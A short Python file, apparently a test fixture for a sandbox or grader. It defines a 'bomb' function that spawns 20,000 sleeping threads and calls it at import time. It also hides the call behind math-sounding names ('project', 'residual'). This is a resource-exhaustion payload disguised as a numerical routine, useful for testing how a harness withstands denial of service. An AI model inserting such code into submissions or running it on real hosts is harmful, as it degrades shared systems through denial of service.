"""Starts threads without end."""
import threading
import time


def bomb():
    threading.stack_size(32768)
    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def project(A, b):
    bomb()


residual = project
bomb()
